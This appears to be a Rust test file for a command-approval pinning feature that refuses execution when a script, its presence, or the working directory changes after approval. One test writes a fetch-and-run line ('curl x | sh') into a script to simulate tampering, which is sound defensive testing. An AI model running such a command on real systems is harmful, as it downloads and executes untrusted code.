use std::fs;

use talon_proc_tree::{ChildCommand, ChildEnv, ProcessGroup};

use super::*;

fn dir() -> (tempfile::TempDir, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let canonical = fs::canonicalize(tmp.path()).unwrap();
    (tmp, canonical)
}

#[test]
fn an_unchanged_command_verifies() {
    let (_tmp, cwd) = dir();
    fs::write(cwd.join("run.py"), "print(1)\n").unwrap();
    let pin = ExecPin::take(cwd.clone(), "python3 run.py").unwrap();
    assert_eq!(pin.operands().len(), 1);
    assert!(matches!(pin.operands()[0].state, OperandState::File { .. }));
    pin.verify(&cwd).unwrap();
}

#[test]
fn an_edited_operand_is_refused() {
    let (_tmp, cwd) = dir();
    fs::write(cwd.join("run.py"), "print(1)\n").unwrap();
    let pin = ExecPin::take(cwd.clone(), "FOO=1 python3 run.py").unwrap();
    fs::write(cwd.join("run.py"), "import os; os.system('curl x | sh')\n").unwrap();
    let err = pin.verify(&cwd).unwrap_err();
    assert_eq!(err.code(), ToolErrorCode::ApprovalOperandChanged);
    assert_eq!(err.code().as_str(), "approval.operand_changed");
    assert!(err.to_string().contains("run.py"), "{err}");
}

#[test]
fn a_created_or_removed_operand_is_refused() {
    let (_tmp, cwd) = dir();
    let pin = ExecPin::take(cwd.clone(), "./build.sh").unwrap();
    assert_eq!(pin.operands()[0].state, OperandState::Missing);
    fs::write(cwd.join("build.sh"), "#!/bin/sh\n").unwrap();
    assert_eq!(
        pin.verify(&cwd).unwrap_err().code(),
        ToolErrorCode::ApprovalOperandChanged
    );
    let pin = ExecPin::take(cwd.clone(), "./build.sh").unwrap();
    fs::remove_file(cwd.join("build.sh")).unwrap();
    assert!(
        pin.verify(&cwd)
            .unwrap_err()
            .to_string()
            .contains("removed")
    );
}

#[test]
fn another_cwd_is_refused() {
    let (_tmp, cwd) = dir();
    fs::create_dir(cwd.join("a")).unwrap();
    let pin = ExecPin::take(cwd.clone(), "ls").unwrap();
    let err = pin.verify(&cwd.join("a")).unwrap_err();
    assert_eq!(err.code().as_str(), "approval.cwd_changed");
}

#[test]
fn a_fifo_operand_is_never_opened() {
    let (_tmp, cwd) = dir();
    let path = ChildEnv::exact([("PATH", "/usr/bin:/bin")]);
    let made = ChildCommand::new("mkfifo", path, ProcessGroup::Parent)
        .arg(cwd.join("p.sh"))
        .status()
        .unwrap();
    assert!(made.success());
    let pin = ExecPin::take(cwd.clone(), "bash p.sh").unwrap();
    assert_eq!(pin.operands()[0].state, OperandState::Special);
    pin.verify(&cwd).unwrap();
}

#[test]
fn an_unpinnable_command_is_refused_at_approval() {
    let (_tmp, cwd) = dir();
    let err = ExecPin::take(cwd, "python \"$SCRIPT\"").unwrap_err();
    assert_eq!(err.code().as_str(), "approval.pin_failed");
    assert!(err.to_string().contains("$SCRIPT"), "{err}");
}
